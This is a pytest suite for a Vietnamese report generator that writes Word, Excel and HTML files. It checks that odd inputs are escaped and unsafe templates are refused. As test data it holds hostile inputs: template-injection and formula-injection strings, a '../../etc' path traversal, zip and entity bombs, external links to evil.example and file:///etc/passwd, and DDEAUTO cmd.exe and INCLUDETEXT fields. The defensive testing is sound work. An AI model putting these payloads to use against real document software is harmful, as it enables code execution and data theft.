"""What must never break or change a report: odd texts, empty and huge tables, bad templates."""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from docx.oxml.ns import qn
from lxml import etree

from report_templates.context.build import build_context
from report_templates.docx import report as docx_writer
from report_templates.docx.check import check_template
from report_templates.docx.report import render_full, render_long, render_section
from report_templates.docx.vocabulary import SLOTS, sample_values, template_values
from report_templates.html.page import render_page
from report_templates.xlsx.workbook import render_return_slips, render_return_slips_by_unit, render_workbook
from tests.report_data import report_data
from warehouse.errors import ConfigurationError

pytestmark = pytest.mark.slow  # every odd text in every document
WRITERS = {
    "section": render_section,
    "full": render_full,
    "long": render_long,
    "workbook": render_workbook,
    "slips": render_return_slips,
    "page": render_page,
}
ODD = [
    "& < > \" ' </w:t>",
    "{{7*7}}",
    "{% for %}",
    "{{ ''.__class__ }}",
    "{_{ _}_}",
    "=HYPERLINK(1)",
    "+cmd",
    "-1",
    "@SUM(A1)",
    "http://a.b/c",
    "00123",
]
MARTS_EMPTY = {
    name: [] for name in ("attainment", "course", "quality", "finding_count", "finding", "export", "form_06a")
}


def odd_report():
    """Every kind of odd text as a unit, a finding's value and the officer's own words."""
    data = report_data()
    attainment = [dict(row) for row in data.marts["attainment"]]
    for number, row in enumerate(row for row in attainment if row["scope_kind"] == "unit"):
        row["unit_name"] = ODD[number % len(ODD)]
    finding = [{**data.marts["finding"][0], "value": text + "\x0b", "line": number} for number, text in enumerate(ODD)]
    prose = {"causes": "\n".join(ODD) + "\x0b", "proposals": "{% raw %}"}
    return build_context(report_data(marts={"attainment": attainment, "finding": finding}, officer_texts=prose))


def text_of(document_bytes):
    return "\n".join(Document(io.BytesIO(document_bytes)).element.body.itertext())


def cells_of(workbook_bytes):
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("writer", WRITERS.values(), ids=WRITERS)
def test_the_same_report_gives_the_same_bytes(writer):
    assert writer(build_context(report_data())) == writer(build_context(report_data()))


@pytest.mark.parametrize("writer", [render_section, render_full])
def test_odd_texts_stand_in_the_document_as_they_are(writer):
    text = text_of(writer(odd_report()))
    for odd in (odd for odd in ODD if odd != "{_{ _}_}"):
        assert odd in text
    assert "49" not in re.findall(r"^49$", text)
    assert "\x0b" not in text


def test_odd_texts_are_texts_in_the_workbooks():
    for content in (render_workbook(odd_report()), render_return_slips(odd_report())):
        cells = cells_of(content)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert set(ODD) <= texts


def test_odd_texts_are_escaped_in_the_page():
    page = render_page(odd_report()).decode()
    assert "&lt;/w:t&gt;" in page
    assert "{{7*7}}" in page
    assert "<script" not in page


@pytest.mark.parametrize("writer", WRITERS.values(), ids=WRITERS)
def test_a_report_without_any_row_is_still_a_report(writer):
    content = writer(build_context(report_data(marts=MARTS_EMPTY)))
    assert len(content) > 4000


def test_an_empty_table_leaves_a_sentence_or_nothing():
    text = text_of(render_long(build_context(report_data(marts=MARTS_EMPTY))))
    assert "Không có đơn vị nào chưa đạt chỉ tiêu." in text
    assert "bang_" not in text and "hinh_" not in text
    assert "Chưa có số liệu" in text


def test_a_table_of_three_thousand_rows_repeats_its_header_and_stays_valid():
    row = report_data().marts["finding_count"][0]
    context = build_context(
        report_data(marts={"finding_count": [{**row, "month": "2024-03", "rows": n} for n in range(3000)]})
    )
    body = Document(io.BytesIO(render_long(context))).element.body
    table = max(body.iter(qn("w:tbl")), key=lambda found: len(found.findall(qn("w:tr"))))
    rows = table.findall(qn("w:tr"))
    assert len(rows) == 3001
    assert sum(row.find(f"{qn('w:trPr')}/{qn('w:tblHeader')}") is not None for row in rows) == 1


@pytest.mark.parametrize("writer", [render_section, render_full, render_workbook, render_return_slips])
def test_every_part_is_well_formed_and_stamped_alike(writer):
    with zipfile.ZipFile(io.BytesIO(writer(odd_report()))) as archive:
        names = archive.namelist()
        assert names[0] == "[Content_Types].xml"
        assert names[1:] == sorted(names[1:])
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        for name in names:
            if name.endswith((".xml", ".rels")):
                etree.fromstring(archive.read(name))


def test_no_numbers_from_texts():
    cells = [cell for cell in cells_of(render_return_slips(odd_report())) if cell.value == "00123"]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_slips_by_unit_hold_each_row_once():
    context = build_context(report_data())
    files = render_return_slips_by_unit(context)
    assert set(files) == {slip.unit_code for slip in context.slips}
    rows = [openpyxl.load_workbook(io.BytesIO(content))["Dòng cần sửa"].max_row - 5 for content in files.values()]
    assert sum(rows) == len(context.slips)


def test_a_unit_that_cannot_be_told_never_names_a_file():
    finding = report_data().marts["finding"][0]
    codes = ["H43.07/240220/0007", "../../etc", None, "H43.31.05", f"H43.{'1' * 300}", "H43" + ".1" * 150]
    context = build_context(report_data(marts={"finding": [{**finding, "unit_code": code} for code in codes]}))
    assert set(render_return_slips_by_unit(context)) == {"chua-ro-don-vi", "H43.31.05"}


def template_with(tmp_path: Path, *lines: str, style: str | None = None) -> Path:
    """The section's own template with some paragraphs more."""
    document = Document(str(docx_writer.TEMPLATES / "muc.docx"))
    for line in lines:
        document.add_paragraph(line, style=style)
    path = tmp_path / "mau.docx"
    document.save(str(path))
    return path


@pytest.mark.parametrize("name", ["muc.docx", "day-du.docx", "chi-tiet.docx"])
def test_our_own_templates_are_fit(name):
    assert check_template(docx_writer.TEMPLATES / name) == []


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        ("{{ ten_mucc }}", "unknown name 'ten_mucc'"),
        ("{{ nam", "template language is wrong"),
        ("{% for doan in mo_dau %}{{ doan }}", "template language is wrong"),
        ("{{ nam.__class__ }}", "forbidden access"),
        ("{{ ''.__class__.__mro__ }}", "forbidden access"),
        ("{{ nam.khong_co }}", "does not exist"),
        ("{{ cycler }}", "unknown name 'cycler'"),
        ("{{ mo_dau.append(1) }}", "forbidden access"),
        ("{{ nam / 0 }}", "cannot be filled"),
        ("{{ nam|center(2000000000) }}", "the filter 'center' is not for templates"),
        ("{{ nam.center(2000000000) }}", "'Call' is not for templates"),
        ("{{ '%2000000000d' % 1 }}", "'Mod' is not for templates"),
        ("{{ '%2000000000d'|format(1) }}", "the filter 'format' is not for templates"),
        ("{{ nam * 2000000000 }}", "'Mul' is not for templates"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "'Macro' is not for templates"),
        ("{% set a = nam ~ nam %}{% set a = a ~ a %}{{ a }}", "'Assign' is not for templates"),
        ("{% for a in nam recursive %}{{ a }}{% endfor %}", "nested"),
        ("{% for a in nam %}" * 4 + "{% endfor %}" * 4, "nested more than 3 deep"),
        ("{{ " + "(" * 5000 + "nam" + ")" * 5000 + " }}", "cannot be read"),
    ],
)
def test_a_bad_template_is_told_before_a_run_and_refused_in_it(tmp_path, line, fault):
    path = template_with(tmp_path, line)
    assert any(fault in found for found in check_template(path)), check_template(path)
    with pytest.raises(ConfigurationError, match="cannot be filled"):
        render_section(build_context(report_data()), path)


def test_an_unknown_place_for_a_table_is_told(tmp_path):
    path = template_with(tmp_path, "bang_khong_co", style="KBC Chỗ chèn")
    assert any("unknown place 'bang_khong_co'" in fault for fault in check_template(path))


def test_a_missing_style_is_told(tmp_path):
    path = tmp_path / "trong.docx"
    Document().save(str(path))
    assert any("the style 'KbcCell' is missing" in fault for fault in check_template(path))


def test_what_is_not_a_word_file_is_told(tmp_path):
    broken = tmp_path / "a.docx"
    broken.write_bytes(b"not a zip")
    assert "is not a Word document" in check_template(broken)[0]
    assert "no such file" in check_template(tmp_path / "none.docx")[0]


def test_a_bomb_and_a_macro_are_refused_unopened(tmp_path):
    bomb, macro = tmp_path / "bomb.docx", tmp_path / "macro.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * 60_000_000)
    with zipfile.ZipFile(macro, "w") as archive:
        archive.writestr("word/vbaProject.bin", b"")
    assert "unpacks to over 50 MB" in check_template(bomb)[0]
    assert "macros" in check_template(macro)[0]


RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FIELD = "<w:fldSimple xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" w:instr='{}'/>"


def changed(tmp_path, *, extra=(), replace=()):
    """The section's own template with parts more, or with a text of a part replaced."""
    path = tmp_path / "mau.docx"
    with zipfile.ZipFile(docx_writer.TEMPLATES / "muc.docx") as own, zipfile.ZipFile(path, "w") as made:
        for name in own.namelist():
            content = own.read(name)
            for part, old, new in replace:
                assert part != name or old.encode() in content
                content = content.replace(old.encode(), new.encode()) if part == name else content
            made.writestr(name, content)
        for name, content in extra:
            made.writestr(name, content)
    return path


def with_link(kind, target):
    link = f'<Relationship Id="rIdX" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/>'
    return {"replace": [("word/_rels/document.xml.rels", "</Relationships>", f"{link}</Relationships>")]}


def with_field(words):
    return {"replace": [("word/document.xml", "<w:sectPr", f"<w:p>{FIELD.format(words)}</w:p><w:sectPr")]}


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"extra": [("word/VBAPROJECT.BIN", b"")]}, "macros"),
        ({"extra": [("word/vbadata.xml", "<a/>")]}, "macros"),
        ({"extra": [("word/embeddings/oleObject1.bin", b"")]}, "embedded objects"),
        ({"extra": [("word/activeX/activeX1.xml", "<a/>")]}, "embedded objects"),
        ({"extra": [("word/Document.xml", "<a/>")]}, "two parts of the same name"),
        ({"extra": [("word/x.xml", '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>')]}, "DOCTYPE"),
        (with_link("attachedTemplate", "https://evil.example/a.dotm"), "outside of it (attachedTemplate)"),
        (with_link("image", "https://evil.example/a.png"), "outside of it (image)"),
        (with_link("hyperlink", "file:///etc/passwd"), "outside of it (hyperlink)"),
        (with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "field DDEAUTO"),
        (with_field("dde excel a"), "field DDE"),
        (with_field('INCLUDETEXT "https://evil.example/a"'), "field INCLUDETEXT"),
    ],
)
def test_a_template_that_would_run_or_fetch_something_is_refused_in_the_check_and_in_a_run(tmp_path, change, fault):
    path = changed(tmp_path, **change)
    assert fault in check_template(path)[0]
    with pytest.raises(ConfigurationError, match="cannot be filled"):
        render_section(build_context(report_data()), path)


def test_a_field_in_pieces_is_read_as_word_joins_it(tmp_path):
    piece = '<w:r><w:instrText xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:instrText></w:r>'
    split = f"<w:p>{piece.format('DD')}{piece.format('EAUTO cmd')}</w:p><w:sectPr"
    assert "field DDEAUTO" in check_template(changed(tmp_path, replace=[("word/document.xml", "<w:sectPr", split)]))[0]


def test_a_link_to_click_on_and_a_page_number_may_stand_in_a_template(tmp_path):
    assert check_template(changed(tmp_path, **with_link("hyperlink", "https://dichvucong.gov.vn"))) == []
    assert check_template(changed(tmp_path, **with_field("PAGE"))) == []


def test_a_bomb_of_entities_is_told_at_once(tmp_path):
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w>&l11;</w>'
    assert len(check_template(changed(tmp_path, extra=[("word/y.xml", bomb)]))) == 1


def test_a_page_template_with_a_missing_name_is_refused(tmp_path):
    path = tmp_path / "trang.html.j2"
    path.write_text("{{ khong_co }}", encoding="utf-8")
    with pytest.raises(ConfigurationError, match="khong_co"):
        render_page(build_context(report_data()), path)


def test_the_guide_names_the_whole_vocabulary_and_nothing_else():
    guide = (docx_writer.TEMPLATES / "HUONG-DAN.md").read_text(encoding="utf-8")
    named = {name for row in guide.splitlines() if row.startswith("| `") for name in re.findall(r"`(\w+)`", row)}
    assert named == set(sample_values()) | set(SLOTS)
    assert set(template_values(build_context(report_data()))) == set(sample_values())
